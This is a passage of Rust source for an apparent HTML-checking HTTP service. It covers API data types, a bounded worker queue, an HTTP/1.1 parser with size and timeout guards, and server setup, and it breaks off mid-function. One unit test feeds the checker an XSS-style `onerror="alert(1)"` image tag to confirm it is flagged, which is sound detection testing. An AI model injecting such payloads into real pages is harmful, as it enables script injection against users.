    pub records: usize,
    /// Pages the scan quarantined with a structured reason.
    pub quarantined: usize,
    /// Whether the scan embedded observability metrics.
    pub has_metrics: bool,
    /// Experiments `GET /v1/report/{experiment}` can render.
    pub experiments: Vec<String>,
    /// On-disk encoding the store was loaded from (`"v0-json"` or
    /// `"v1-binary"`); absent for in-memory stores.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub format: Option<String>,
    /// Per-snapshot segment summaries; absent for empty stores.
    #[serde(default, skip_serializing_if = "Vec::is_empty")]
    pub segments: Vec<SegmentDto>,
    /// Segments a partial (`--allow-partial`) load dropped.
    #[serde(default, skip_serializing_if = "Vec::is_empty")]
    pub dropped: Vec<DroppedDto>,
}

/// One store segment (= one snapshot's records) on the wire.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct SegmentDto {
    /// Crawl id, e.g. `"CC-MAIN-2015-14"`.
    pub snapshot: String,
    /// Domain-snapshot records in the segment.
    pub records: u32,
    /// Distinct domains with at least one analyzed page.
    pub domains_analyzed: u32,
    /// Distinct analyzed domains with at least one violation.
    pub domains_violating: u32,
    /// Pages found across the segment.
    pub pages_found: u64,
    /// Pages analyzed across the segment.
    pub pages_analyzed: u64,
    /// Pages quarantined across the segment.
    pub pages_quarantined: u64,
}

/// One dropped segment from a partial load, on the wire.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct DroppedDto {
    /// Zero-based index of the segment in file order.
    pub segment: u32,
    /// Byte offset of the corrupt frame.
    pub offset: u64,
    /// Human-readable corruption detail.
    pub detail: String,
}

impl From<&hv_pipeline::IndexedStore> for StoreSummary {
    fn from(store: &hv_pipeline::IndexedStore) -> Self {
        StoreSummary {
            seed: store.seed,
            scale: store.scale,
            universe: store.universe,
            records: store.records.len(),
            quarantined: store.quarantine.len(),
            has_metrics: store.metrics.is_some(),
            experiments: hv_report::EXPERIMENTS.iter().map(|&s| s.to_owned()).collect(),
            format: store.format.map(|f| f.name().to_owned()),
            segments: store
                .segments
                .iter()
                .map(|s| SegmentDto {
                    snapshot: s.snapshot.crawl_id().to_owned(),
                    records: s.records,
                    domains_analyzed: s.domains_analyzed,
                    domains_violating: s.domains_violating,
                    pages_found: s.pages_found,
                    pages_analyzed: s.pages_analyzed,
                    pages_quarantined: s.pages_quarantined,
                })
                .collect(),
            dropped: store
                .dropped
                .iter()
                .map(|d| DroppedDto {
                    segment: d.segment,
                    offset: d.offset,
                    detail: d.detail.clone(),
                })
                .collect(),
        }
    }
}

/// Every non-2xx response carries this body.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct ErrorBody {
    /// Machine-readable error code, stable within `/v1`:
    /// `bad_request`, `not_found`, `method_not_allowed`, `timeout`,
    /// `body_too_large`, `headers_too_large`, `body_not_utf8`,
    /// `store_not_loaded`, `internal_panic`, `shedding_load`.
    pub code: String,
    /// Human-readable detail. Free-form; clients must branch on `code`.
    pub message: String,
}

impl ErrorBody {
    pub fn new(code: impl Into<String>, message: impl Into<String>) -> Self {
        ErrorBody { code: code.into(), message: message.into() }
    }
}

fn category_str(kind: ViolationKind) -> &'static str {
    match kind.category() {
        hv_core::ViolationCategory::DefinitionViolation => "definition_violation",
        hv_core::ViolationCategory::ParsingError => "parsing_error",
    }
}

fn fixability_str(kind: ViolationKind) -> &'static str {
    match kind.fixability() {
        hv_core::Fixability::Automatic => "automatic",
        hv_core::Fixability::Manual => "manual",
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn check_response_mirrors_report() {
        let mut battery = hv_core::Battery::full();
        let report = battery.run_str(r#"<img src="x.png"onerror="alert(1)">"#);
        let dto = CheckResponse::from(&report);
        assert!(!dto.clean);
        assert_eq!(dto.findings.len(), report.findings.len());
        assert!(dto.findings.iter().any(|f| f.kind == "FB2"));
        for f in &dto.findings {
            assert!(f.group.len() == 2, "group code: {}", f.group);
            assert!(matches!(f.category.as_str(), "definition_violation" | "parsing_error"));
            assert!(matches!(f.fixability.as_str(), "automatic" | "manual"));
        }
    }

    #[test]
    fn explain_covers_every_kind() {
        for kind in ViolationKind::ALL {
            let dto = ExplainResponse::from(kind);
            assert_eq!(dto.kind, kind.id());
            assert!(!dto.behaviour.is_empty());
            assert!(!dto.attack.is_empty());
            assert!(!dto.fix.is_empty());
        }
    }

    #[test]
    fn fix_response_is_consistent() {
        let o = hv_core::autofix::auto_fix(r#"<img src=a src=b><p/ class=c>"#);
        let dto = FixResponse::from(&o);
        assert!(!dto.before.is_empty());
        for id in &dto.eliminated {
            assert!(dto.before.contains(id));
            assert!(!dto.after.contains(id));
        }
    }

    #[test]
    fn check_request_roundtrips() {
        let req = CheckRequest { html: "<p>x</p>".into() };
        let json = serde_json::to_string(&req).unwrap();
        let back: CheckRequest = serde_json::from_str(&json).unwrap();
        assert_eq!(back, req);
    }
}
