//! The bounded hand-off between the acceptor and the worker pool.
//!
//! Backpressure is the whole point: the queue has a hard capacity
//! (`--queue-depth`), and [`BoundedQueue::try_push`] *never blocks* — a
//! full queue is reported to the acceptor immediately, which sheds the
//! connection with `503 + Retry-After` instead of letting latency grow
//! without bound. Workers block on [`BoundedQueue::pop`] and drain
//! whatever is left after [`BoundedQueue::close`], so graceful shutdown
//! finishes every connection that was already admitted.

use std::collections::VecDeque;
use std::sync::{Condvar, Mutex};

/// Why a push was refused. The item comes back so the caller can shed it
/// properly (write the 503) instead of silently dropping it.
#[derive(Debug, PartialEq, Eq)]
pub enum PushError<T> {
    /// Queue at capacity — shed the connection.
    Full(T),
    /// Queue closed (shutdown in progress) — drop the connection.
    Closed(T),
}

struct Inner<T> {
    items: VecDeque<T>,
    closed: bool,
}

/// A Mutex + Condvar bounded MPMC queue. `std::sync::mpsc` is not used
/// because its unbounded sender has no non-blocking "full" signal and its
/// receiver cannot be shared across workers.
pub struct BoundedQueue<T> {
    inner: Mutex<Inner<T>>,
    ready: Condvar,
    capacity: usize,
}

impl<T> BoundedQueue<T> {
    pub fn new(capacity: usize) -> Self {
        assert!(capacity > 0, "queue capacity must be positive");
        BoundedQueue {
            inner: Mutex::new(Inner { items: VecDeque::with_capacity(capacity), closed: false }),
            ready: Condvar::new(),
            capacity,
        }
    }

    /// Non-blocking push; `Err` hands the item back to the caller.
    pub fn try_push(&self, item: T) -> Result<(), PushError<T>> {
        let mut inner = self.inner.lock().unwrap();
        if inner.closed {
            return Err(PushError::Closed(item));
        }
        if inner.items.len() >= self.capacity {
            return Err(PushError::Full(item));
        }
        inner.items.push_back(item);
        drop(inner);
        self.ready.notify_one();
        Ok(())
    }

    /// Block until an item arrives or the queue is closed *and* drained.
    /// `None` is the worker's signal to exit.
    pub fn pop(&self) -> Option<T> {
        let mut inner = self.inner.lock().unwrap();
        loop {
            if let Some(item) = inner.items.pop_front() {
                return Some(item);
            }
            if inner.closed {
                return None;
            }
            inner = self.ready.wait(inner).unwrap();
        }
    }

    /// Close the queue: pushes fail from now on, workers drain the
    /// remainder and then see `None`.
    pub fn close(&self) {
        self.inner.lock().unwrap().closed = true;
        self.ready.notify_all();
    }

    /// Current depth (for tests and diagnostics).
    pub fn len(&self) -> usize {
        self.inner.lock().unwrap().items.len()
    }

    pub fn is_empty(&self) -> bool {
        self.len() == 0
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::sync::Arc;

    #[test]
    fn rejects_when_full_without_blocking() {
        let q = BoundedQueue::new(2);
        assert_eq!(q.try_push(1), Ok(()));
        assert_eq!(q.try_push(2), Ok(()));
        assert_eq!(q.try_push(3), Err(PushError::Full(3)));
        assert_eq!(q.pop(), Some(1));
        assert_eq!(q.try_push(3), Ok(()));
    }

    #[test]
    fn close_drains_then_signals_exit() {
        let q = BoundedQueue::new(4);
        q.try_push("a").unwrap();
        q.try_push("b").unwrap();
        q.close();
        assert_eq!(q.try_push("c"), Err(PushError::Closed("c")));
        assert_eq!(q.pop(), Some("a"));
        assert_eq!(q.pop(), Some("b"));
        assert_eq!(q.pop(), None);
    }

    #[test]
    fn close_wakes_blocked_workers() {
        let q = Arc::new(BoundedQueue::<u32>::new(1));
        let workers: Vec<_> = (0..3)
            .map(|_| {
                let q = Arc::clone(&q);
                std::thread::spawn(move || q.pop())
            })
            .collect();
        // Give the workers a moment to block, then close.
        std::thread::sleep(std::time::Duration::from_millis(50));
        q.close();
        for w in workers {
            assert_eq!(w.join().unwrap(), None);
        }
    }

    #[test]
    fn concurrent_producers_and_consumers_preserve_items() {
        let q = Arc::new(BoundedQueue::<u64>::new(8));
        let consumers: Vec<_> = (0..4)
            .map(|_| {
                let q = Arc::clone(&q);
                std::thread::spawn(move || {
                    let mut sum = 0u64;
                    while let Some(v) = q.pop() {
                        sum += v;
                    }
                    sum
                })
            })
            .collect();
        let mut pushed = 0u64;
        for v in 1..=1000u64 {
            // Spin until accepted: producers in this test *want* to wait.
            loop {
                match q.try_push(v) {
                    Ok(()) => break,
                    Err(PushError::Full(_)) => std::thread::yield_now(),
                    Err(PushError::Closed(_)) => unreachable!(),
                }
            }
            pushed += v;
        }
        q.close();
        let consumed: u64 = consumers.into_iter().map(|c| c.join().unwrap()).sum();
        assert_eq!(consumed, pushed);
    }
}
