//! A hand-rolled HTTP/1.1 subset: exactly what the v1 API needs, nothing
//! more.
//!
//! The parser reads the request head (request line + headers) up to a hard
//! cap, validates `Content-Length` against the configured body budget
//! **before** reading a single body byte — the same refuse-early shape as
//! the pipeline's §7 `OversizedBody` guard — and only then drains the
//! body. Responses are written in one buffered pass with an explicit
//! `Content-Length` (no chunked encoding). Pipelined requests are
//! supported: bytes read past the current request are handed back to the
//! caller through a per-connection carry buffer and seed the next parse.

use serde::Serialize;
use std::io::{self, Read, Write};
use std::net::TcpStream;

/// Hard cap on the request head (request line + headers). Large enough
/// for any sane client, small enough that a slow-loris peer cannot tie up
/// worker memory.
pub const MAX_HEAD_BYTES: usize = 16 * 1024;

/// One parsed request.
#[derive(Debug)]
pub struct Request {
    pub method: String,
    /// The request target path, without query string.
    pub path: String,
    /// Header names are lowercased at parse time.
    pub headers: Vec<(String, String)>,
    pub body: Vec<u8>,
    /// Whether the connection should stay open after this exchange
    /// (HTTP/1.1 default unless `Connection: close`; HTTP/1.0 requires an
    /// explicit `keep-alive`).
    pub keep_alive: bool,
}

impl Request {
    pub fn header(&self, name: &str) -> Option<&str> {
        let name = name.to_ascii_lowercase();
        self.headers.iter().find(|(k, _)| *k == name).map(|(_, v)| v.as_str())
    }

    /// Content-Type, lowercased, parameters stripped (`text/html; charset=x`
    /// → `text/html`).
    pub fn content_type(&self) -> Option<String> {
        self.header("content-type")
            .map(|v| v.split(';').next().unwrap_or(v).trim().to_ascii_lowercase())
    }
}

/// Why a request could not be read. Each variant maps to exactly one HTTP
/// status in [`RequestError::to_response`].
#[derive(Debug)]
pub enum RequestError {
    /// Malformed request line or header → 400.
    BadRequest(String),
    /// Head exceeded [`MAX_HEAD_BYTES`] → 431.
    HeadersTooLarge,
    /// Declared `Content-Length` over the body budget → 413. The body was
    /// never read.
    BodyTooLarge { len: usize, budget: usize },
    /// The peer went silent mid-request → 408.
    Timeout,
    /// The peer closed or errored mid-request; no response can be sent.
    Disconnected,
}

impl RequestError {
    /// The response to write for this error, if one can be written at all.
    pub fn to_response(&self) -> Option<Response> {
        let (status, code, message) = match self {
            RequestError::BadRequest(m) => (400, "bad_request", m.clone()),
            RequestError::HeadersTooLarge => {
                (431, "headers_too_large", format!("request head exceeds {MAX_HEAD_BYTES} bytes"))
            }
            RequestError::BodyTooLarge { len, budget } => (
                413,
                "body_too_large",
                format!("declared body of {len} bytes exceeds the {budget}-byte limit"),
            ),
            RequestError::Timeout => {
                (408, "timeout", "connection went silent mid-request".to_owned())
            }
            RequestError::Disconnected => return None,
        };
        let body = crate::api::v1::ErrorBody::new(code, message);
        Some(Response::json(status, &body).close())
    }
}

/// Read one request from the stream. `Ok(None)` means the peer closed (or
/// went idle past the read timeout) *between* requests — a clean keep-alive
/// termination, not an error.
///
/// `carry` holds bytes already read from the stream that belong to the
/// *next* request (a pipelining client sends several requests in one
/// write). It seeds this parse and is refilled with whatever this parse
/// reads past its own body; the caller owns it for the connection's
/// lifetime and must not share it across connections.
pub fn read_request(
    stream: &mut TcpStream,
    max_body: usize,
    carry: &mut Vec<u8>,
) -> Result<Option<Request>, RequestError> {
    // --- head: everything up to \r\n\r\n, capped ---
    let mut head = std::mem::take(carry);
    let mut buf = [0u8; 4096];
    let (head_end, spill) = loop {
        if let Some(pos) = find_head_end(&head) {
            // Bytes past the head belong to the body (or the next request).
            break (pos, head.split_off(pos + 4));
        }
        if head.len() >= MAX_HEAD_BYTES {
            return Err(RequestError::HeadersTooLarge);
        }
        let n = match stream.read(&mut buf) {
            Ok(0) => {
                if head.is_empty() {
                    return Ok(None); // clean close between requests
                }
                return Err(RequestError::Disconnected);
            }
            Ok(n) => n,
            Err(e) if is_timeout(&e) => {
                if head.is_empty() {
                    return Ok(None); // idle keep-alive: close silently
                }
                return Err(RequestError::Timeout);
            }
            Err(_) => return Err(RequestError::Disconnected),
        };
        head.extend_from_slice(&buf[..n]);
    };
    head.truncate(head_end);
    let head_text = std::str::from_utf8(&head)
        .map_err(|_| RequestError::BadRequest("request head is not valid UTF-8".into()))?;

    // --- request line ---
    let mut lines = head_text.split("\r\n");
    let request_line = lines.next().unwrap_or_default();
    let mut parts = request_line.split(' ');
    let (method, target, version) = match (parts.next(), parts.next(), parts.next(), parts.next()) {
        (Some(m), Some(t), Some(v), None) if !m.is_empty() && t.starts_with('/') => (m, t, v),
        _ => {
            return Err(RequestError::BadRequest(format!(
                "malformed request line: {request_line:?}"
            )))
        }
    };
    if !matches!(version, "HTTP/1.1" | "HTTP/1.0") {
        return Err(RequestError::BadRequest(format!("unsupported version: {version}")));
    }

    // --- headers ---
    let mut headers = Vec::new();
    for line in lines {
        if line.is_empty() {
            continue;
        }
        let Some((name, value)) = line.split_once(':') else {
            return Err(RequestError::BadRequest(format!("malformed header line: {line:?}")));
        };
        headers.push((name.trim().to_ascii_lowercase(), value.trim().to_owned()));
    }

    let find = |name: &str| headers.iter().find(|(k, _)| k == name).map(|(_, v)| v.as_str());
    let keep_alive = match find("connection").map(str::to_ascii_lowercase) {
        Some(v) if v.contains("close") => false,
        Some(v) if v.contains("keep-alive") => true,
        _ => version == "HTTP/1.1",
    };

    // --- body: refuse before reading (§7 guard shape) ---
    let content_length: usize = match find("content-length") {
        Some(v) => v
            .trim()
            .parse()
            .map_err(|_| RequestError::BadRequest(format!("bad content-length: {v:?}")))?,
        None => 0,
    };
    if find("transfer-encoding").is_some() {
        return Err(RequestError::BadRequest("transfer-encoding is not supported".into()));
    }
    if content_length > max_body {
        return Err(RequestError::BodyTooLarge { len: content_length, budget: max_body });
    }
    // Bytes already read past the head seed the body; anything beyond the
    // declared length belongs to the next pipelined request and goes back
    // into the carry buffer.
    let mut body = spill;
    if body.len() > content_length {
        *carry = body.split_off(content_length);
    }
    while body.len() < content_length {
        let n = match stream.read(&mut buf) {
            Ok(0) => return Err(RequestError::Disconnected),
            Ok(n) => n,
            Err(e) if is_timeout(&e) => return Err(RequestError::Timeout),
            Err(_) => return Err(RequestError::Disconnected),
        };
        let want = content_length - body.len();
        body.extend_from_slice(&buf[..n.min(want)]);
        if n > want {
            carry.extend_from_slice(&buf[want..n]);
        }
    }

    let path = target.split('?').next().unwrap_or(target).to_owned();
    Ok(Some(Request { method: method.to_owned(), path, headers, body, keep_alive }))
}

fn find_head_end(buf: &[u8]) -> Option<usize> {
    buf.windows(4).position(|w| w == b"\r\n\r\n")
}

fn is_timeout(e: &io::Error) -> bool {
    matches!(e.kind(), io::ErrorKind::WouldBlock | io::ErrorKind::TimedOut)
}

/// An outgoing response, written in one buffered pass.
#[derive(Debug)]
pub struct Response {
    pub status: u16,
    pub body: Vec<u8>,
    pub content_type: &'static str,
    /// Extra headers (`Retry-After`, …).
    pub extra_headers: Vec<(&'static str, String)>,
    /// Force `Connection: close` regardless of the request's wish.
    pub force_close: bool,
}

impl Response {
    pub fn new(status: u16, content_type: &'static str, body: Vec<u8>) -> Self {
        Response { status, body, content_type, extra_headers: Vec::new(), force_close: false }
    }

    pub fn text(status: u16, body: impl Into<String>) -> Self {
        Response::new(status, "text/plain; charset=utf-8", body.into().into_bytes())
    }

    /// Serialize `body` as JSON. Serialization of our own DTOs cannot
    /// fail; a failure would be a server bug, reported as a plain-text 500
    /// rather than a panic.
    pub fn json<T: Serialize>(status: u16, body: &T) -> Self {
        match serde_json::to_string(body) {
            Ok(text) => Response::new(status, "application/json", text.into_bytes()),
            Err(e) => Response::text(500, format!("response serialization failed: {e}")),
        }
    }

    /// JSON error envelope.
    pub fn error(status: u16, code: &str, message: impl Into<String>) -> Self {
        Response::json(status, &crate::api::v1::ErrorBody::new(code, message.into()))
    }

    pub fn header(mut self, name: &'static str, value: impl Into<String>) -> Self {
        self.extra_headers.push((name, value.into()));
        self
    }

    pub fn close(mut self) -> Self {
        self.force_close = true;
        self
    }

    /// Write the response. Returns whether the connection stays open.
    pub fn write_to(&self, stream: &mut TcpStream, request_keep_alive: bool) -> io::Result<bool> {
        let keep_alive = request_keep_alive && !self.force_close;
        let mut out = Vec::with_capacity(256 + self.body.len());
        let reason = reason_phrase(self.status);
        out.extend_from_slice(format!("HTTP/1.1 {} {}\r\n", self.status, reason).as_bytes());
        out.extend_from_slice(format!("content-type: {}\r\n", self.content_type).as_bytes());
        out.extend_from_slice(format!("content-length: {}\r\n", self.body.len()).as_bytes());
        out.extend_from_slice(if keep_alive {
            b"connection: keep-alive\r\n".as_slice()
        } else {
            b"connection: close\r\n"
        });
        for (name, value) in &self.extra_headers {
            out.extend_from_slice(format!("{name}: {value}\r\n").as_bytes());
        }
        out.extend_from_slice(b"\r\n");
        out.extend_from_slice(&self.body);
        stream.write_all(&out)?;
        stream.flush()?;
        Ok(keep_alive)
    }
}

fn reason_phrase(status: u16) -> &'static str {
    match status {
        200 => "OK",
        400 => "Bad Request",
        404 => "Not Found",
        405 => "Method Not Allowed",
        408 => "Request Timeout",
        409 => "Conflict",
        413 => "Content Too Large",
        422 => "Unprocessable Content",
        431 => "Request Header Fields Too Large",
        500 => "Internal Server Error",
        503 => "Service Unavailable",
        _ => "Unknown",
    }
}

/// The acceptor's shed response: written directly on the accepted socket
/// when the worker queue is full, without ever parsing the request.
pub fn write_shed_response(stream: &mut TcpStream) {
    let resp = Response::error(503, "shedding_load", "server at capacity, retry shortly")
        .header("retry-after", "1")
        .close();
    // Best effort: the peer may already be gone; shedding must not block
    // the accept loop on a slow reader either, so give it a short timeout.
    let _ = stream.set_write_timeout(Some(std::time::Duration::from_millis(500)));
    if resp.write_to(stream, false).is_ok() {
        drain_before_close(stream);
    }
}

/// Prepare to close a connection whose request was *not* fully read (shed,
/// 4xx before the body, timeout). Closing with unread bytes in the receive
/// buffer makes the kernel send RST instead of FIN, which destroys the
/// error response still sitting in the peer's receive buffer — the client
/// then sees `ECONNRESET` where it should have seen the 503/413. So:
/// half-close the write side (response + FIN go out), then read and
/// discard the remainder of the request, bounded by a short timeout and a
/// byte cap so a trickling peer can't pin the thread.
pub fn drain_before_close(stream: &mut TcpStream) {
    let _ = stream.shutdown(std::net::Shutdown::Write);
    let _ = stream.set_read_timeout(Some(std::time::Duration::from_millis(250)));
    let mut scratch = [0u8; 4096];
    let mut budget = 256 * 1024usize;
    loop {
        match stream.read(&mut scratch) {
            Ok(0) | Err(_) => return,
            Ok(n) => match budget.checked_sub(n) {
                Some(rest) => budget = rest,
                None => return,
            },
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::net::{TcpListener, TcpStream};

    /// Run the parser against raw bytes through a real socket pair.
    fn parse_raw(raw: &[u8], max_body: usize) -> Result<Option<Request>, RequestError> {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        let addr = listener.local_addr().unwrap();
        let raw = raw.to_vec();
        let writer = std::thread::spawn(move || {
            let mut s = TcpStream::connect(addr).unwrap();
            s.write_all(&raw).unwrap();
            // Half-close so the reader sees EOF after the payload.
            s.shutdown(std::net::Shutdown::Write).unwrap();
            s
        });
        let (mut stream, _) = listener.accept().unwrap();
        stream.set_read_timeout(Some(std::time::Duration::from_secs(2))).unwrap();
        let out = read_request(&mut stream, max_body, &mut Vec::new());
        let _ = writer.join();
        out
    }

    #[test]
    fn parses_post_with_body() {
        let req = parse_raw(
            b"POST /v1/check HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\ncontent-length: 12\r\n\r\n{\"html\":\"a\"}",
            1024,
        )
        .unwrap()
        .unwrap();
        assert_eq!(req.method, "POST");
        assert_eq!(req.path, "/v1/check");
        assert_eq!(req.body, b"{\"html\":\"a\"}");
        assert!(req.keep_alive);
        assert_eq!(req.content_type().as_deref(), Some("application/json"));
    }

    #[test]
    fn strips_query_string_and_honors_close() {
        let req = parse_raw(b"GET /healthz?x=1 HTTP/1.1\r\nConnection: close\r\n\r\n", 0)
            .unwrap()
            .unwrap();
        assert_eq!(req.path, "/healthz");
        assert!(!req.keep_alive);
    }

    #[test]
    fn http_1_0_defaults_to_close() {
        let req = parse_raw(b"GET / HTTP/1.0\r\n\r\n", 0).unwrap().unwrap();
        assert!(!req.keep_alive);
    }

    #[test]
    fn rejects_malformed_request_line() {
        assert!(matches!(parse_raw(b"NONSENSE\r\n\r\n", 0), Err(RequestError::BadRequest(_))));
        assert!(matches!(
            parse_raw(b"GET noslash HTTP/1.1\r\n\r\n", 0),
            Err(RequestError::BadRequest(_))
        ));
    }

    #[test]
    fn refuses_oversized_body_before_reading_it() {
        // Declared length over budget; only the head is ever sent — the
        // parser must fail fast instead of waiting for body bytes.
        let err = parse_raw(b"POST /v1/check HTTP/1.1\r\ncontent-length: 999999\r\n\r\n", 1024);
        match err {
            Err(RequestError::BodyTooLarge { len, budget }) => {
                assert_eq!(len, 999_999);
                assert_eq!(budget, 1024);
            }
            other => panic!("{other:?}"),
        }
    }

    #[test]
    fn clean_eof_is_none() {
        assert!(parse_raw(b"", 0).unwrap().is_none());
    }

    #[test]
    fn pipelined_requests_survive_in_carry() {
        // Two requests in one write: the first parse must hand the second
        // request's bytes back through the carry, and a second parse seeded
        // from the carry must read it without touching the (now-EOF) stream.
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        let addr = listener.local_addr().unwrap();
        let writer = std::thread::spawn(move || {
            let mut s = TcpStream::connect(addr).unwrap();
            s.write_all(
                b"POST /v1/check HTTP/1.1\r\ncontent-length: 5\r\n\r\nfirstGET /healthz HTTP/1.1\r\n\r\n",
            )
            .unwrap();
            s.shutdown(std::net::Shutdown::Write).unwrap();
            s
        });
        let (mut stream, _) = listener.accept().unwrap();
        stream.set_read_timeout(Some(std::time::Duration::from_secs(2))).unwrap();
        let mut carry = Vec::new();
        let first = read_request(&mut stream, 1024, &mut carry).unwrap().unwrap();
        assert_eq!(first.body, b"first");
        assert!(!carry.is_empty(), "second request's bytes must land in the carry");
        let second = read_request(&mut stream, 1024, &mut carry).unwrap().unwrap();
        assert_eq!(second.method, "GET");
        assert_eq!(second.path, "/healthz");
        assert!(carry.is_empty());
        let _ = writer.join();
    }

    #[test]
    fn response_writes_and_parses_back() {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        let addr = listener.local_addr().unwrap();
        let t = std::thread::spawn(move || {
            let (mut stream, _) = listener.accept().unwrap();
            Response::json(200, &crate::api::v1::ErrorBody::new("x", "y"))
                .header("retry-after", "1")
                .write_to(&mut stream, true)
                .unwrap();
        });
        let mut client = TcpStream::connect(addr).unwrap();
        let mut text = String::new();
        client.read_to_string(&mut text).unwrap();
        t.join().unwrap();
        assert!(text.starts_with("HTTP/1.1 200 OK\r\n"));
        assert!(text.contains("content-type: application/json\r\n"));
        assert!(text.contains("retry-after: 1\r\n"));
        assert!(text.ends_with("{\"code\":\"x\",\"message\":\"y\"}"));
    }
}
