//! # hv-server — `hva serve`, the HTTP service layer
//!
//! A dependency-free (std + the workspace's vendored serde) HTTP/1.1
//! service over the checker battery, exposing a stable, versioned wire
//! API:
//!
//! | endpoint | does |
//! |---|---|
//! | `POST /v1/check` | run the full battery over a document |
//! | `POST /v1/fix` | the §4.4 automatic repair |
//! | `GET /v1/explain/{kind}` | one taxonomy entry |
//! | `GET /v1/report/{experiment}` | render a table/figure from the loaded store |
//! | `GET /v1/store/summary` | provenance of the loaded store |
//! | `GET /healthz` | liveness |
//! | `GET /metricsz` | counters + log₂ latency histograms |
//!
//! ## Threading and backpressure
//!
//! One acceptor thread and a fixed pool of workers, each owning a
//! reusable [`Battery`](hv_core::Battery) — the hot path performs no
//! per-request battery construction. Between them sits a **bounded**
//! queue ([`pool::BoundedQueue`]): when `threads` workers are busy and
//! `queue_depth` connections already wait, the acceptor *sheds* the next
//! connection with `503 + Retry-After` instead of queueing it. Worst-case
//! admitted work is therefore `threads + queue_depth` connections; tail
//! latency is bounded by queue depth, not by how fast clients arrive.
//!
//! Per-connection read/write timeouts bound slow peers; keep-alive is
//! honored until shutdown. A handler panic is caught at the request
//! boundary (`500 internal_panic`, worker survives) — the scan engine's
//! page-quarantine philosophy applied to a service.
//!
//! ## Example
//!
//! ```
//! use hv_server::{serve, ServeOptions};
//!
//! let server = serve(ServeOptions::new().addr("127.0.0.1:0").threads(2)).unwrap();
//! let addr = server.addr();
//! // ... point clients at http://{addr} ...
//! server.shutdown();
//! ```

pub mod api;
pub mod handler;
pub mod http;
pub mod metrics;
pub mod pool;

use handler::{Handler, Shared};
use hv_core::HvError;
use metrics::Metrics;
use pool::{BoundedQueue, PushError};
use std::net::{SocketAddr, TcpListener, TcpStream};
use std::path::PathBuf;
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::Arc;
use std::thread::JoinHandle;
use std::time::Duration;

/// Default request-body budget: the scan engine's §7 per-record byte
/// budget, applied to request bodies.
pub const DEFAULT_MAX_BODY: usize = hv_pipeline::run::DEFAULT_BYTE_BUDGET;

/// Default bounded-queue depth.
pub const DEFAULT_QUEUE_DEPTH: usize = 64;

/// Server configuration, following the workspace's `ScanOptions` builder
/// idiom. `#[non_exhaustive]` keeps new knobs from being breaking
/// changes: construct with [`ServeOptions::new`] and chain setters.
#[derive(Debug, Clone)]
#[non_exhaustive]
pub struct ServeOptions {
    /// Bind address, e.g. `"127.0.0.1:8077"`. Port 0 picks a free port
    /// (see [`Server::addr`]).
    pub addr: String,
    /// Worker threads; 0 = one per available core.
    pub threads: usize,
    /// Request-body byte budget; larger bodies get 413 before being read.
    pub max_body: usize,
    /// Bounded queue depth; connections beyond it are shed with 503.
    pub queue_depth: usize,
    /// Per-connection read timeout (also the keep-alive idle limit).
    pub read_timeout: Duration,
    /// Per-connection write timeout.
    pub write_timeout: Duration,
    /// Result store to load at startup for the report endpoints.
    pub store_path: Option<PathBuf>,
}

impl ServeOptions {
    /// The defaults: loopback on port 8077, all cores, 1 MiB bodies,
    /// depth-64 queue, 5 s timeouts, no store.
    pub fn new() -> Self {
        ServeOptions {
            addr: "127.0.0.1:8077".to_owned(),
            threads: 0,
            max_body: DEFAULT_MAX_BODY,
            queue_depth: DEFAULT_QUEUE_DEPTH,
            read_timeout: Duration::from_secs(5),
            write_timeout: Duration::from_secs(5),
            store_path: None,
        }
    }

    pub fn addr(mut self, addr: impl Into<String>) -> Self {
        self.addr = addr.into();
        self
    }

    /// Worker threads; 0 = one per available core.
    pub fn threads(mut self, threads: usize) -> Self {
        self.threads = threads;
        self
    }

    pub fn max_body(mut self, bytes: usize) -> Self {
        self.max_body = bytes;
        self
    }

    pub fn queue_depth(mut self, depth: usize) -> Self {
        self.queue_depth = depth;
        self
    }

    pub fn read_timeout(mut self, t: Duration) -> Self {
        self.read_timeout = t;
        self
    }

    pub fn write_timeout(mut self, t: Duration) -> Self {
        self.write_timeout = t;
        self
    }

    /// Load (and index) this result store at startup — v0 JSON or v1
    /// binary, sniffed by content.
    pub fn store_path(mut self, path: impl Into<PathBuf>) -> Self {
        self.store_path = Some(path.into());
        self
    }
}

impl Default for ServeOptions {
    fn default() -> Self {
        ServeOptions::new()
    }
}

/// A running server. Dropping it without calling [`Server::shutdown`]
/// detaches the threads (the process keeps serving until exit).
pub struct Server {
    addr: SocketAddr,
    shared: Arc<Shared>,
    shutting_down: Arc<AtomicBool>,
    acceptor: Option<JoinHandle<()>>,
    workers: Vec<JoinHandle<()>>,
}

impl Server {
    /// The actual bound address (resolves port 0).
    pub fn addr(&self) -> SocketAddr {
        self.addr
    }

    /// Shared state (metrics, store) — mainly for tests and embedding.
    pub fn shared(&self) -> &Arc<Shared> {
        &self.shared
    }

    /// Graceful shutdown: stop accepting, drain every admitted
    /// connection, join all threads. In-flight requests finish; idle
    /// keep-alive connections are closed within the read timeout.
    pub fn shutdown(mut self) {
        self.shutting_down.store(true, Ordering::SeqCst);
        // The acceptor blocks in accept(); a self-connection wakes it so
        // it can observe the flag without platform-specific listener
        // tricks.
        let _ = TcpStream::connect(self.addr);
        if let Some(acceptor) = self.acceptor.take() {
            let _ = acceptor.join();
        }
        for w in self.workers.drain(..) {
            let _ = w.join();
        }
    }
}

/// Start a server. Fails fast — bad address, unreadable store — with the
/// workspace-wide [`HvError`]; once `Ok`, the server is accepting.
pub fn serve(opts: ServeOptions) -> Result<Server, HvError> {
    // Load + index once at startup; every report request renders from
    // this prebuilt AggregateIndex, never re-folding the record set.
    let store = match &opts.store_path {
        Some(path) => Some(hv_pipeline::IndexedStore::load(path)?),
        None => None,
    };
    let listener = TcpListener::bind(&opts.addr)
        .map_err(|e| HvError::server(format!("binding {}: {e}", opts.addr)))?;
    let addr = listener
        .local_addr()
        .map_err(|e| HvError::server(format!("resolving local address: {e}")))?;

    let threads = if opts.threads == 0 {
